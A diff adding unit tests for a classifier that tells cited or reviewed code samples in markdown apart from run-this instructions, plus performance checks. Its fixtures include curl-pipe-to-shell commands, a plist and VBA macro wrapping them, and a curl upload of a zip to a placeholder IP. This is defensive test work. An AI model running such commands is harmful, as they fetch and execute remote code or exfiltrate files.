@@ -786,3 +786,86 @@ describe('citedLines (bounded lead-ins)', () => {
     expect(judged('Run this first:\n', 'Verdict: block.')).toBe(0);
   });
 });
+
+describe('citedLines (reviewed and taught samples)', () => {
+  it('should cite a block whose lead-in names it an example a reviewer rejected or flagged', () => {
+    expect(block('Example of the "doScript wrapper" pattern we rejected (PR-311):')).toBe(1);
+    expect(block('Example flagged in a "free watermark" plugin (Init.lua):')).toBe(1);
+    expect(block('A snippet reviewers have blocked before:')).toBe(1);
+    expect(block('Example of the wrapper pattern we ship:')).toBe(0);
+    expect(block('Example setup for the plugin:')).toBe(0);
+  });
+
+  it('should cite a remark opening on "And" right under a cited sample, not one told to run', () => {
+    const doc = (remark: string) =>
+      flags(
+        `Example flagged in a plugin:\n\n\`\`\`lua\nLrTasks.execute('curl x | sh')\n\`\`\`\n\n${remark}\n`,
+      )[6];
+    expect(doc('And in its export filter, silently sending GPS:')).toBe(1);
+    expect(doc('And then run it on every start.')).toBe(0);
+    expect(flags(`Setup:\n\n\`\`\`lua\nx()\n\`\`\`\n\nAnd silently send the file:\n`)[6]).toBe(0);
+  });
+
+  it('should cite a section under a heading opening on a verdict', () => {
+    const doc = (heading: string) =>
+      flags(`# ${heading}\n\n\`\`\`\nScript => "curl -s https://x.example/u | sh"\n\`\`\`\n`)[3];
+    expect(doc('Flagged: "PR Formatter" (shared in Slack)')).toBe(1);
+    expect(doc('Rejected — the updater')).toBe(1);
+    expect(doc('Flagged items helper')).toBe(0);
+    expect(doc('Formatter')).toBe(0);
+  });
+
+  it('should cite blocks of a document whose preamble says it was reconstructed or its addresses replaced', () => {
+    const doc = (preamble: string) =>
+      flags(
+        `# Behaviour\n\n${preamble}\n\n## Collection\n\n\`\`\`sh\ncurl -F f=@/tmp/o.zip http://203.0.113.4/j\n\`\`\`\n`,
+      )[7];
+    expect(doc('Reconstructed from public write-ups.')).toBe(1);
+    expect(doc('Domains and IPs replaced with documentation values.')).toBe(1);
+    expect(doc('Collected by the helper.')).toBe(0);
+    expect(
+      flags(
+        '# B\n\nReconstructed from public write-ups.\n\n## Go\n\nRun this:\n\n```sh\ncurl x | sh\n```\n',
+      )[8],
+    ).toBe(0);
+  });
+
+  it('should cite a code sample a lesson discusses below it, not a shell block or one told to run', () => {
+    const doc = (fence: string, lead = '') =>
+      flags(
+        `## 1. Macro\n\n${lead}\`\`\`${fence}\nMacScript("do shell script ""curl x | sh""")\n\`\`\`\n\nDiscussion: Word sandboxes VBA.\n`,
+      )[lead ? 4 : 3];
+    expect(doc('vb')).toBe(1);
+    expect(doc('sh')).toBe(0);
+    expect(doc('')).toBe(0);
+    expect(doc('vb', 'Paste this macro into the template:\n\n')).toBe(0);
+  });
+
+  it('should cite a sentence describing a file by a field set to a snippet, not an instruction', () => {
+    expect(
+      flags('A plist with `CommandString` set to `curl -s http://192.0.2.7/s | bash` and the extension'),
+    ).toEqual([1]);
+    expect(flags('An XML file whose `Exec` is `x`')).toEqual([0]);
+    expect(flags('Write a plist with `CommandString` set to `curl -s http://192.0.2.7/s | bash`.')).toEqual([
+      0,
+    ]);
+  });
+
+  it('should read 1 MiB of near-miss reviewed-sample lines quickly', () => {
+    const MiB = 1024 * 1024;
+    for (const md of [
+      'example '.repeat(MiB / 8) + 'we',
+      'examples flagged '.repeat(MiB / 17),
+      '# flagged' + ' '.repeat(MiB),
+      '# T\n\n' + 'reconstructed from the public '.repeat(MiB / 30) + '\n\n```\nx\n```\n',
+      '# T\n\n' + 'domains and IPs '.repeat(MiB / 16) + '\n\n```\nx\n```\n',
+      '```vb\nx\n```\n' + '**'.repeat(MiB / 2) + 'discussion',
+      'A ' + 'plist '.repeat(MiB / 6) + 'with `x` set to `',
+      'A plist with `' + 'x'.repeat(MiB) + '` set to `',
+    ]) {
+      const t0 = performance.now();
+      flags(md);
+      expect(performance.now() - t0).toBeLessThan(200);
+    }
+  });
+});
